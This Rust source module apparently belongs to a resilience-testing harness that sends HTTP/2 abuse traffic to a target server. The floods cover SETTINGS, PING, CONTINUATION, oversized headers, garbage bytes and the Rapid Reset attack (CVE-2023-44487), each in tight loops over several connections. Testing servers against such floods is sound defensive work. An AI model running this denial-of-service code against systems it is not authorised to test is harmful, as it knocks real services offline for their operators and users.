//! As many frames or requests as fit.

use tokio::io::AsyncWriteExt;

use super::{
    Target,
    wire::{self, Client},
};

/// Sends the same again and again on four connections.
async fn repeated(target: Target, frames: Vec<u8>) {
    let bytes = frames.repeat((64 * 1024 / frames.len()).max(1));
    wire::all(4, move |_| {
        let bytes = bytes.clone();
        async move {
            let mut client = Client::open(target.address, true, &[]).await;
            while client.send(&bytes).await {}
        }
    })
    .await;
}

pub async fn settings(target: Target) {
    repeated(target, wire::frame(wire::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await;
}

pub async fn ping(target: Target) {
    repeated(target, wire::frame(wire::PING, 0, 0, &[7; 8])).await;
}

pub async fn window_update(target: Target) {
    // So small that no window overflows for long.
    repeated(target, wire::frame(wire::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await;
}

pub async fn priority(target: Target) {
    repeated(target, wire::frame(wire::PRIORITY, 0, 3, &[0, 0, 0, 0, 9])).await;
}

pub async fn unknown(target: Target) {
    repeated(target, wire::frame(0xbe, 0, 0, b"nothing")).await;
}

pub async fn empty_data(target: Target) {
    wire::all(4, move |_| async move {
        let mut client = Client::open(target.address, true, &[]).await;
        let mut is_open =
            client.send(&wire::frame(wire::HEADERS, wire::END_HEADERS, 1, &wire::head(wire::INGEST))).await;
        let frames = wire::frame(wire::DATA, 0, 1, &[]).repeat(5_000);
        while is_open {
            is_open = client.send(&frames).await;
        }
    })
    .await;
}

/// Streams that are opened and reset at once (CVE-2023-44487), with a message in between where there is one.
async fn reset(target: Target, message: &'static [u8]) {
    wire::all(4, move |_| async move {
        let mut client = Client::open(target.address, true, &[]).await;
        let head = wire::head(wire::INGEST);
        for number in 0..500_000 {
            let stream = wire::stream(number);
            let mut frames = wire::frame(wire::HEADERS, wire::END_HEADERS, stream, &head);
            if !message.is_empty() {
                frames.extend(wire::frame(wire::DATA, 0, stream, message));
            }
            frames.extend(wire::frame(wire::RESET, 0, stream, &[0, 0, 0, 8]));
            if !client.send(&frames).await {
                return;
            }
        }
    })
    .await;
}

pub async fn rapid_reset(target: Target) {
    reset(target, b"").await;
}

pub async fn greet_and_reset(target: Target) {
    reset(target, b"\0\0\0\0\x0b\x0a\x06site-9\x12\x01g").await;
}

pub async fn continuation(target: Target) {
    wire::all(4, move |_| async move {
        let mut client = Client::open(target.address, true, &[]).await;
        let mut is_open = client.send(&wire::frame(wire::HEADERS, 0, 1, &wire::head(wire::INGEST))).await;
        let frames = wire::frame(wire::CONTINUATION, 0, 1, &wire::field("x", "y").repeat(100));
        while is_open {
            is_open = client.send(&frames).await;
        }
    })
    .await;
}

pub async fn large_heads(target: Target) {
    wire::all(4, move |_| async move {
        let mut client = Client::open(target.address, true, &[]).await;
        let long = wire::field(&"n".repeat(100), &"v".repeat(120)).repeat(60);
        for number in 0..100_000 {
            let head = [wire::head(wire::INGEST), long.clone()].concat();
            let flags = wire::END_HEADERS | wire::END_STREAM;
            if !client.send(&wire::frame(wire::HEADERS, flags, wire::stream(number), &head)).await {
                return;
            }
        }
    })
    .await;
}

pub async fn garbage(target: Target) {
    wire::all(target.many(20), move |n| async move {
        let mut rng = Target { seed: target.seed + n as u64, ..target }.rng();
        let mut bytes: Vec<u8> = (0..2_000).map(|_| rng.next_u64() as u8).collect();
        if n % 2 == 0 {
            bytes.splice(..0, *b"POST / HTTP/1.1\r\n");
        }
        if let Some(mut stream) = wire::connected(target.address, &bytes).await {
            let _ = stream.shutdown().await;
            wire::until_closed(stream).await;
        }
    })
    .await;
}
